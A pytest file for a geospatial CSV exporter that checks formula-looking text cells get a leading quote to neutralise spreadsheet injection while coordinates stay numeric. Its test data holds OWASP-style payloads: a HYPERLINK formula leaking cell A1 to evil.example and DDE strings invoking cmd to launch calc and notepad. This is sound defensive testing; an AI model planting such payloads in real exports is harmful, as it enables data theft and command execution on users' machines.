"""CSV export: formula-looking text cells are neutralised, numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from shapely.geometry import LineString, Point

from geo.export import export_layers
from geo.export.spreadsheet import inert_cell
from geo.timing import JST

# What a spreadsheet would run or evaluate (OWASP's CSV injection list), and harmless text.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+81 3 1234",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["Hakodate Airport", "函館空港", "'already quoted", " =leading space", "1976-09-06", ""]


def frame(name: str, description: str, geometry) -> gpd.GeoDataFrame:
    start = pd.Timestamp("1976-09-06 13:50", tz=JST)
    return gpd.GeoDataFrame(
        {
            "id": ["item"],
            "layer": ["bases"],
            **{column: [""] for column in ("place", "place_ja", "place_ru", "alternatives")},
            "name": [name],
            "start": [start],
            "end": [start],
            "description": [description],
            "sources": ["=cmd|' /C notepad'!A1"],
            "certainty": ["documented"],
        },
        geometry=[geometry],
        crs="EPSG:4326",
    )


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_starts_get_a_leading_quote(value: str) -> None:
    assert inert_cell(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_other_text_is_left_alone(value: str) -> None:
    assert inert_cell(value) == value


@pytest.mark.parametrize("value", FORMULAS)
def test_no_text_cell_of_the_csv_starts_a_formula(tmp_path: Path, value: str) -> None:
    (path,) = export_layers({"bases": frame(value, value, Point(-120.5, -33.25))}, "csv", tmp_path)
    (row,) = rows(path)
    for column in ("name", "description", "sources"):
        assert row[column].startswith("'") and not row[column][1:].startswith("'")
    assert row["name"] == "'" + value
    assert row["sources"] == "'=cmd|' /C notepad'!A1"


def test_negative_coordinates_stay_numbers(tmp_path: Path) -> None:
    (path,) = export_layers({"bases": frame("x", "y", Point(-120.5, -33.25))}, "csv", tmp_path)
    (row,) = rows(path)
    assert (float(row["lat"]), float(row["lon"])) == (-33.25, -120.5)
    assert row["lon"] == "-120.5" and row["WKT"] == "POINT (-120.5 -33.25)"


def test_lines_have_wkt_and_no_lat_lon(tmp_path: Path) -> None:
    line = LineString([(-1.5, 2.0), (3.0, -4.0)])
    (path,) = export_layers({"bases": frame("-x", "y", line)}, "csv", tmp_path)
    (row,) = rows(path)
    assert (row["lat"], row["lon"], row["WKT"]) == ("", "", "LINESTRING (-1.5 2, 3 -4)")
    assert row["name"] == "'-x"
